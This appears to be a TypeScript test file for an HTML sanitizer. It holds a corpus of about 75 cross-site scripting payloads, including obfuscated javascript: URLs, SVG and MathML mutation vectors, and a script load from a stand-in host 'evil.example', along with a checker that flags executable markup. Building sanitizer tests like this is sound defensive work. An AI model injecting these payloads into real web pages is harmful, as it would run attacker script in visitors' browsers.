/**
 * Known XSS vectors for article HTML (issue 12): script tags, event handlers, javascript: and
 * data: URLs, SVG and MathML, CSS expressions, broken markup and mutation XSS (mXSS). Every
 * payload that could run calls `__xss(n)` (or alert), so a browser test can see whether any fired.
 */
export const XSS_CORPUS: readonly string[] = [
  '<script>__xss(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=__xss(3)>',
  '<img src="x" onerror="__xss(4)">',
  '<svg onload=__xss(5)>',
  '<svg><script>__xss(6)</script></svg>',
  '<body onload=__xss(7)>',
  '<iframe src="javascript:__xss(8)"></iframe>',
  '<a href="javascript:__xss(9)">click</a>',
  '<a href="JaVaScRiPt:__xss(10)">click</a>',
  '<a href="java&#x09;script:__xss(11)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(12)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTMpPC9zY3JpcHQ+">click</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoMTQpPjwvc3ZnPg==">',
  '<object data="javascript:__xss(15)"></object>',
  '<embed src="javascript:__xss(16)">',
  '<details open ontoggle=__xss(17)><summary>x</summary></details>',
  '<input autofocus onfocus=__xss(18)>',
  '<video><source onerror=__xss(19)></video>',
  '<audio src=x onerror=__xss(20)></audio>',
  '<marquee onstart=__xss(21)>x</marquee>',
  '<div style="background:url(javascript:__xss(22))">css url</div>',
  '<div style="width:expression(__xss(23))">css expression</div>',
  "<style>@import 'javascript:__xss(24)';body{background:url(javascript:__xss(24))}</style>",
  '<link rel=stylesheet href="javascript:__xss(25)">',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(26)">',
  '<base href="javascript:__xss(27)//">',
  '<form action="javascript:__xss(28)"><button>go</button></form>',
  '<button formaction="javascript:__xss(29)">go</button>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(30)>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(31)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=__xss(32)>">',
  '<img src=x onerror=__xss(33)//',
  '<<script>script>__xss(34)<</script>/script>',
  '<scr<script>ipt>__xss(35)</scr</script>ipt>',
  '<img """><script>__xss(36)</script>">',
  '<img src=`x` onerror=__xss(37)>',
  '<IMG SRC=x oNeRrOr=__xss(38)>',
  '<img src=x onerror=&#95;&#95;xss(39)>',
  '<svg><animate onbegin=__xss(40) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__xss(41)"><text x=20 y=20>x</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='__xss(42)'/&gt;&lt;/svg&gt;#x\"/></svg>",
  '<template><img src=x onerror=__xss(43)></template>',
  '<table background="javascript:__xss(44)"><tr><td>x</td></tr></table>',
  '<a href="vbscript:__xss(45)">click</a>',
  '<a href=" javascript:__xss(46)">click</a>',
  '<a href="javascript&colon;__xss(47)">click</a>',
  '<img src="/img/news-gold.svg" onload=__xss(48)>',
  '<p onmouseover=__xss(49)>hover</p>',
  '<isindex type=image src=1 onerror=__xss(50)>',
  '<xmp><img src=x onerror=__xss(51)></xmp>',
  '<textarea><img src=x onerror=__xss(52)></textarea>',
  '<title><img src=x onerror=__xss(53)></title>',
  '<!--><img src=x onerror=__xss(54)>-->',
  '<a href="https://ok.example" onclick="__xss(55)">x</a>',
  '<img srcset="x" onerror=__xss(56)>',
  '<frameset onload=__xss(57)></frameset>',
  '<select autofocus onfocus=__xss(58)></select>',
  '<a href="data:text/html,<script>parent.__xss(59)</script>">x</a>',
  '</title><script>__xss(60)</script>',
  '"><script>__xss(61)</script>',
  '<svg><style><img src=x onerror=__xss(62)></style></svg>',
  '<img src="x" alt="&quot; onerror=&quot;__xss(63)">',
  '<iframe srcdoc="<script>parent.__xss(64)</script>"></iframe>',
  '<a href="//evil.example/steal">protocol-relative</a>',
  '<img src="javascript:__xss(66)">',
  '<a href="&#x6A;avascript:__xss(67)">x</a>',
  '<a href="jav&#x0A;ascript:__xss(68)">x</a>',
  '<div id="x" tabindex=1 onfocusin=__xss(69) autofocus>x</div>',
  '<img src=x:alert(70) onerror=eval(src)>',
  '<svg><set attributeName=onmouseover to=__xss(71)>',
  '<math href="javascript:__xss(72)">click</math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__xss(73) src=1>">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.__xss(74)</script>"></iframe></foreignObject></svg>',
  '<a href="https://ok.example" target="_self" rel="opener">opener</a>',
];

/** What no cleaned article may contain: tags outside the allow-list, handlers, styles, bad URLs. */
export function executableParts(html: string, allowedTags: readonly string[]): string[] {
  const found: string[] = [];
  for (const m of html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)/g)) {
    const tag = m[1]!.toLowerCase();
    if (!allowedTags.includes(tag)) found.push(`tag <${tag}>`);
  }
  for (const m of html.matchAll(/<[^>]*>/g)) {
    const tag = m[0];
    if (/\son[a-z]+\s*=/i.test(tag)) found.push(`handler in ${tag}`);
    if (/\s(style|srcset|srcdoc|formaction|background|xlink:href|action)\s*=/i.test(tag))
      found.push(`attribute in ${tag}`);
    for (const a of tag.matchAll(/\s(href|src)\s*=\s*"([^"]*)"/gi)) {
      const value = decodeEntities(a[2]!)
        // Browsers ignore control characters and whitespace inside a scheme: so must this check.
        // eslint-disable-next-line no-control-regex
        .replace(/[\s\u0000-\u001f]/g, '')
        .toLowerCase();
      const safe = /^(https?:|mailto:)/.test(value) || (/^\/(?!\/)/.test(value) && !value.includes('\\'));
      if (!safe) found.push(`url ${a[2]} in ${tag}`);
    }
    if (/^<a\s/i.test(tag) && !/rel="noopener noreferrer nofollow"/.test(tag))
      found.push(`unsafe link ${tag}`);
  }
  return found;
}

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&amp;/g, '&');
}
